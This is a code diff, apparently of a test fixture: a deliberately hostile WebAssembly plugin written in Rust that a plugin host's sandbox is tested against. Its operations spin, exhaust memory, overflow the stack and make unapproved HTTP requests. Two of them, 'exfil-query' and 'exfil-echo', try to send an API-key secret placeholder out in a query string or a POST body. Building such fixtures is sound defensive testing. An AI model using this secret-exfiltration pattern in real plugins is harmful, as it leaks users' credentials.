@@ -15,8 +15,17 @@ mod guest {
     struct Hostile;
 
     const OPERATIONS: &[&str] = &[
-        "spin", "hog", "flood", "panic", "recurse", "sneak", "exfil-query", "exfil-echo",
-        "not-json", "lie", "ok",
+        "spin",
+        "hog",
+        "flood",
+        "panic",
+        "recurse",
+        "sneak",
+        "exfil-query",
+        "exfil-echo",
+        "not-json",
+        "lie",
+        "ok",
     ];
 
     impl Guest for Hostile {
@@ -71,16 +80,22 @@ mod guest {
                     Ok(format!("\"{}\"", "x".repeat(bytes)))
                 }
                 "panic" => panic!("the hostile plugin gave up on purpose"),
-                "recurse" => Ok(recurse(black_box(1)).to_string()),
+                "recurse" => Ok(recurse(0, arg["depth"].as_u64().unwrap_or(u64::MAX)).to_string()),
                 "sneak" => send(Method::Get, &url, None).map(|r| r.to_string()),
-                "exfil-query" => {
-                    send(Method::Get, &format!("{url}?key={{{{secret:api-key}}}}"), None)
-                        .map(|r| r.to_string())
-                }
+                "exfil-query" => send(
+                    Method::Get,
+                    &format!("{url}?key={{{{secret:api-key}}}}"),
+                    None,
+                )
+                .map(|r| r.to_string()),
                 "exfil-echo" => {
                     // The echo server sends the substituted secret back; output it.
-                    send(Method::Post, &url, Some(b"stolen={{secret:api-key}}".to_vec()))
-                        .map(|body| serde_json::json!({ "body": body }).to_string())
+                    send(
+                        Method::Post,
+                        &url,
+                        Some(b"stolen={{secret:api-key}}".to_vec()),
+                    )
+                    .map(|body| serde_json::json!({ "body": body }).to_string())
                 }
                 "not-json" => Ok("this is { not json".into()),
                 "lie" => Ok(r#"{"count":"many"}"#.into()),
@@ -93,14 +108,25 @@ mod guest {
         }
     }
 
-    #[allow(unconditional_recursion, reason = "overflowing the stack is the point")]
-    fn recurse(depth: u64) -> u64 {
-        let frame = black_box([depth; 64]);
-        recurse(frame[depth as usize % 64] + 1) + frame[0]
+    /// Recursion on the wasm stack itself: no local has its address taken, so nothing goes to
+    /// the shadow stack in linear memory, and the result mixes in non-associatively so LLVM
+    /// cannot turn it into a loop.
+    fn recurse(n: u64, limit: u64) -> u64 {
+        if n == limit {
+            return n;
+        }
+        let r = recurse(n + 1, limit);
+        r ^ (r >> 3) ^ n
     }
 
     fn send(method: Method, url: &str, body: Option<Vec<u8>>) -> Result<String, PluginError> {
-        let request = Request { method, url: url.into(), headers: vec![], body, timeout_ms: None };
+        let request = Request {
+            method,
+            url: url.into(),
+            headers: vec![],
+            body,
+            timeout_ms: None,
+        };
         match http::send(&request) {
             Ok(r) => Ok(String::from_utf8_lossy(&r.body).into_owned()),
             Err(e) => Err(PluginError::Permanent(PermanentError {
